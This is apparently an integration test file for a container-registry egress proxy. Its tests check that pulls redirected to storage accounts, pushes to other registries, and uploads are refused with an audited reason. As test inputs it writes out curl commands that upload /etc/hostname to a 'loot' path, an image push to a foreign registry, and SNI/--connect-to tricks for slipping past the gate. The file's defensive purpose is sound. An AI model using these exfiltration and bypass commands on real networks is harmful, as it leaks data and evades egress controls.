//! Forbidden traffic does not pass, and the user of the client sees the reason.

use crate::harness::{Blobs, Image, Lab, Policy, Ran, Way, containerd, wait_until};

const STORAGE: &str = "eusmanaged123.blob.core.windows.net";
const REFERENCE: &str = "contoso.azurecr.io/app:1";

/// Returns a curl command. Without `-v`, curl prints only the status code of a rejected CONNECT.
fn curl(url: &str) -> String {
    format!("curl -sv -o /dev/null {url}")
}

/// Asserts that the last line that the user sees contains the host and the reason code. curl prints
/// its own last line after the answer's status line.
#[track_caller]
fn assert_says(ran: &Ran, host: &str, code: &str) {
    let line = match ran.text.lines().find(|line| line.starts_with("< HTTP/1.1 403 pullgate: ")) {
        Some(status) if ran.command.starts_with("curl") => status,
        _ => ran.last_line(),
    };
    assert!(line.contains(host) && line.contains(code), "{}\n{}", ran.command, ran.text);
}

#[test]
pub fn blobs_redirected_to_a_storage_account_are_refused_with_the_cause() {
    let lab = Lab::new(Blobs::StorageAccount);
    let image = lab.push(REFERENCE, 1, &[50_000, 60_000]);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let way = Way::Through(&gate);
    let (_containerd, ctr) = containerd(&lab);
    let to = lab.dir().join("pulled");
    for pull in [
        format!("skopeo copy docker://{REFERENCE} dir:{}", to.display()),
        format!("podman pull {REFERENCE}"),
        format!("{ctr} images pull --snapshotter native {REFERENCE}"),
        curl(&format!("https://{STORAGE}/docker/registry")),
    ] {
        assert_says(&lab.sh(way, &pull).failed(), STORAGE, "storage-account");
    }
    assert_eq!(lab.reached_storage(), (0, 0));
    let denied = gate.audited(&[("outcome", "denied"), ("reason", "storage-account")]);
    assert!(denied["target"].as_str().unwrap().starts_with(STORAGE), "{denied}");
    assert_eq!(denied["upstream"].as_str().unwrap_or(""), "", "{denied}");

    // Without the gate, the same pull succeeds, from the storage account.
    let copy = format!("skopeo copy docker://{REFERENCE} dir:{}", to.display());
    lab.sh(Way::Direct, &copy).succeeded();
    assert!(lab.asked(STORAGE).contains(&image.layers[0].0[7..]));
}

#[test]
pub fn a_push_to_another_registry_is_refused() {
    let lab = Lab::new(Blobs::DataEndpoint);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let image = Image::random(lab.dir(), 7, &[50_000]);
    let push = lab.pushing(&image, "fabrikam.azurecr.io/loot:1");
    let ran = lab.run(Way::Through(&gate), &push).failed();
    assert_says(&ran, "fabrikam.azurecr.io", "other-registry");
    gate.audited(&[("outcome", "denied"), ("reason", "other-registry")]);
    assert_eq!(lab.asked("fabrikam.azurecr.io"), "", "nothing reached the other registry");

    // The same push to the allowed registry passes, by design, and also without the gate.
    let allowed = lab.pushing(&image, "contoso.azurecr.io/mine:1");
    lab.run(Way::Through(&gate), &allowed).succeeded();
    lab.run(Way::Direct, &push).succeeded();
    wait_until("the other registry's log has the push", || {
        lab.asked("fabrikam.azurecr.io").contains("PUT /v2/loot/manifests/").then_some(())
    });
}

#[test]
pub fn nothing_reaches_a_storage_account() {
    let lab = Lab::new(Blobs::DataEndpoint);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let write = |url: &str| format!("curl -sS -k -T /etc/hostname {url}");
    let upper = STORAGE.to_uppercase();
    for (url, target, code) in [
        (format!("https://{STORAGE}/loot"), format!("{STORAGE}:443"), "storage-account"),
        (format!("https://{upper}:444/loot"), format!("{STORAGE}:444"), "storage-account"),
        (format!("https://{STORAGE}:8443/loot"), format!("{STORAGE}:8443"), "storage-account"),
        ("https://127.0.1.5/loot".to_owned(), "127.0.1.5:443".to_owned(), "ip-literal"),
        (
            "https://[::ffff:127.0.1.5]/loot".to_owned(),
            "[::ffff:127.0.1.5]:443".to_owned(),
            "ip-literal",
        ),
    ] {
        let ran = lab.sh(Way::Through(&gate), &write(&url)).failed();
        assert!(ran.text.contains("403"), "{}", ran.text);
        gate.audited(&[("outcome", "denied"), ("reason", code), ("target", &target)]);
    }
    // An allowed name in the CONNECT, with the storage account's name in the SNI.
    let inside = "curl -sS -k --connect-to contoso.azurecr.io:443:contoso.azurecr.io:443";
    let host = format!("{inside} -T /etc/hostname https://{STORAGE}/loot");
    lab.sh(Way::Through(&gate), &host).failed();
    let tunnel = format!("{inside} --connect-to {STORAGE}:443:contoso.azurecr.io:443");
    let ran = lab.sh(Way::Through(&gate), &format!("{tunnel} https://{STORAGE}/loot")).failed();
    gate.audited(&[("outcome", "denied"), ("reason", "sni-mismatch"), ("sni", STORAGE)]);
    assert!(ran.text.contains("access denied"), "{}", ran.text);

    assert_eq!(lab.reached_storage(), (0, 0));
    lab.sh(Way::Direct, &write(&format!("https://{STORAGE}/loot"))).succeeded();
    assert!(lab.reached_storage().1 > 0, "the counter counts");
}

#[test]
pub fn the_last_line_of_every_client_names_the_host_and_the_reason() {
    let lab = Lab::new(Blobs::DataEndpoint);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let (_containerd, ctr) = containerd(&lab);
    for (host, code) in [
        ("fabrikam.azurecr.io", "other-registry"),
        ("registry.example.com", "host-not-allowed"),
        (STORAGE, "storage-account"),
    ] {
        for client in [
            format!("skopeo inspect docker://{host}/app:1"),
            format!("podman pull {host}/app:1"),
            format!("{ctr} images pull --snapshotter native {host}/app:1"),
            curl(&format!("https://{host}/v2/")),
        ] {
            let ran = lab.sh(Way::Through(&gate), &client).failed();
            assert_says(&ran, host, code);
        }
    }
    assert_eq!(lab.reached_storage(), (0, 0));
    let all = gate.metric("pullgate_sessions_total", &[]);
    assert_eq!(gate.metric("pullgate_sessions_total", &["outcome=\"denied\""]), all);
    // A denial is not retried: podman sends at most two requests.
    assert!(all <= 3.0 * 4.0 * 2.0, "{all} tunnels for 12 commands");
}

#[test]
fn another_method_is_answered_and_closed() {
    let lab = Lab::new(Blobs::DataEndpoint);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let proxied = format!("curl -sS -i --proxy {} http://contoso.azurecr.io/v2/", gate.proxy());
    let ran = lab.sh(Way::Direct, &proxied).succeeded();
    assert!(ran.text.starts_with("HTTP/1.1 405 "), "{}", ran.text);
    assert!(ran.text.to_lowercase().contains("proxy-status: "), "{}", ran.text);
    gate.audited(&[("outcome", "denied"), ("reason", "method-not-allowed")]);
}

/// A client that takes the gate for a web server sends the gate's own name. The audit line has it.
#[test]
fn a_host_that_is_not_the_target_is_in_the_audit() {
    let lab = Lab::new(Blobs::DataEndpoint);
    let gate = lab.gate(&Policy::of(&["contoso"]));
    let line = "curl -sS --proxy-header Host:gate.example:3128 https://contoso.azurecr.io/v2/";
    lab.sh(Way::Through(&gate), line).failed();
    let line = gate.audited(&[("reason", "bad-target"), ("target", "contoso.azurecr.io:443")]);
    assert_eq!(line["facts"]["host"], "gate.example:3128", "{line}");
}
